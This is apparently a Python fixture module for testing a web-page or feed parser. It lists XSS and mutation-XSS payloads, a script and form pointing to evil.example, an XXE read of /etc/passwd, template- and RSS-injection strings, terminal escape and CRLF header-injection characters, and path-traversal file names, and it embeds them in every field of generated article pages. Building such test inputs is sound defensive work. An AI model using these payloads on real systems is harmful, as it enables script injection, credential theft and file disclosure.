"""What attackers write: pieces of markup that act where nothing cleans them, and pages that carry them everywhere."""

from __future__ import annotations

import html
import json

MARKUP = {
    "script": "<script>alert(1337)</script>",
    "script-src": "<script src=https://evil.example/x.js></script>",
    "script-odd": "<scr<script>ipt>alert(1337)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1337)>",
    "onload": "<body onload=alert(1337)><details open ontoggle=alert(1337)>",
    "slash": "<img/src=x/onerror=alert(1337)//",
    "break-out": "\"'><img src=x onerror=alert(1337)>",
    "attribute": '" onmouseover="alert(1337)" x="',
    "javascript": '<a href="javascript:alert(1337)">x</a>',
    "javascript-odd": '<a href="&#1;java&Tab;script&colon;alert(1337)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1337)</script>">x</a><iframe src="data:text/html,x"></iframe>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "svg": "<svg onload=alert(1337)><script>alert(1337)</script></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/><animate onbegin=alert(1337)></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1337)">x</maction></math>',
    "mxss-1": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=alert(1)&gt;\">",
    "mxss-2": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1337)>\">",
    "mxss-3": "<noscript><p title=\"</noscript><img src=x onerror=alert(1337)>\">",
    "mxss-4": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1337)>",
    "mxss-5": "<listing>&lt;img onerror=alert(1337) src=x&gt;</listing><xmp><img src=x onerror=alert(1337)></xmp>",
    "css": "<style>*{background:url(javascript:alert(1337))}</style><p style=\"x:expression(alert(1337))\">x</p>",
    "base": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1337)'>",
    "form": "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1337)>",
    "object": "<object data=https://evil.example/x.swf></object><embed src=x><applet code=x>",
    "cdata": "]]><script>alert(1337)</script><![CDATA[",
    "item": "]]></content:encoded></description></item><item><title>Injected</title></item><item>",
    "entry": "</content></entry><entry><title>Injected</title></entry>",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "comment": "--><script>alert(1337)</script><!--",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}<%= 7 %>",
}  # fmt: skip

#: Characters that end parsers, hide names or drive terminals.
CHARACTERS = {
    "nul": "a\x00b",
    "controls": "a\x01\x02\x08\x0b\x0c\x0e\x1f\x7fb",
    "c1": "a\x80\x85\x9bb",
    "noncharacters": "a\ufffe\uffffb",
    "bidi": "a\u202egpj.exe\u202c \u2066b\u2069",
    "zero-width": "a\u200bb\u200dc\ufeffd\u2060e",
    "escape": "a\x1b[31;1m\x1b]0;owned\x07\x1b[2Jb",
    "references": "a&#0;&#1;&#x1b;[31m&#xFFFE;&#xD800;&#x202e;b&#x110000;",
    "lines": "a\r\nSet-Cookie: x\n\nb\u2028c\u2029d",
}

CATEGORIES = {
    "up": "..",
    "up-far": "../../../../etc/cron.d/x",
    "dot": ".",
    "c++": "C++",
    "c#": "C#",
    "long": "dài " * 1250,
    "index": "index",
    "all": "all",
    "health": "_health",
    "slash": "/etc/passwd",
    "nul-file": "x\x00.rss",
    "device": "CON",
    "emoji": "🐉",
    "percent": "%2e%2e%2f",
    "source": "source-papers",
}

DATES = {
    "month-13": "2026-13-45T25:61:61+99:99",
    "year-0": "0000-00-00",
    "year-99999": "99999-01-01T00:00:00Z",
    "future": "2199-01-01T00:00:00Z",
    "past": "0001-01-01T00:00:00+14:00",
    "end": "9999-12-31T23:59:59-14:00",
    "number": "1e400",
    "digits": "9" * 5000,
    "words": "yesterday at noon, or never",
}


def spellings(text: str) -> tuple[str, str, str]:
    """Raw, escaped once and twice."""
    once = html.escape(text)
    return text, once, html.escape(once)


def page(payload: str, number: int, **fields: str) -> str:
    """A page that is an article, with *payload* in every field and address; *fields* replace some of it."""

    def field(name: str, usual: str) -> str:
        return fields.get(name, f"{usual} {number} {payload}")

    title, section = field("title", "Rain falls on the old town"), field("category", "Town")
    date = fields.get("date", "2026-03-07T08:00:00+07:00")
    ld = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": title,
        "datePublished": date,
        "author": {"@type": "Person", "name": field("author", "Ann Writer"), "url": f"javascript:{payload}"},
        "articleSection": section,
        "keywords": [field("tag", "weather")],
        "image": [f"javascript:{payload}", f"data:text/html,{payload}", f"https://img.example/{payload}"],
    }
    return f"""<!DOCTYPE html><html lang="en"><head><title>{title}</title>
<meta property="og:type" content="article"><meta property="og:title" content="{title}">
<meta property="og:image" content="https://img.example/{payload}.jpg">
<meta name="author" content="{field("author", "Ann Writer")}">
<meta property="article:section" content="{section}"><meta property="article:tag" content="{field("tag", "weather")}">
<meta property="article:published_time" content="{date}">
<link rel="canonical" href="https://paper.example/{number}/{fields.get("url", payload)}">
<script type="application/ld+json">{json.dumps(ld)}</script></head><body><article>
<h1>{title}</h1><p class="author">By {field("author", "Ann Writer")}</p>
<p>{"The rain fell on the old town all day long, and people stayed at home. " * 4}{number} {payload}</p>
<figure><img src="https://img.example/{number}.jpg?{payload}" alt="{payload}" data-src="javascript:{payload}">
<figcaption>A street {payload}</figcaption></figure>
<p><a href="javascript:{payload}">one</a> <a href="https://paper.example/{payload}">two</a>
<a href="data:text/html,{payload}">three</a> {"And in the evening the river rose by a metre. " * 4}</p></article>
<div class="related"><h3>Related</h3><ul>
<li><a href="https://paper.example/other-{number}/{payload}">Another story of the rain {number} {payload}</a></li>
<li><a href="javascript:{payload}">A third story of the rain in the town {number} {payload}</a></li></ul></div>
</body></html>"""


def dump(payload: str, number: int) -> str:
    """A text dump with *payload* in every line."""
    return f"""Town {payload}

# Rain falls on the old town again {number} {payload}

07/03/2026 08:00 {payload}

The rain fell on the old town all day long, and people stayed at home. {number} {payload}

{"And in the evening the river rose by a metre or so, as it does in spring. " * 3}{payload}

Related

Another story of the rain number {number} {payload}
"""
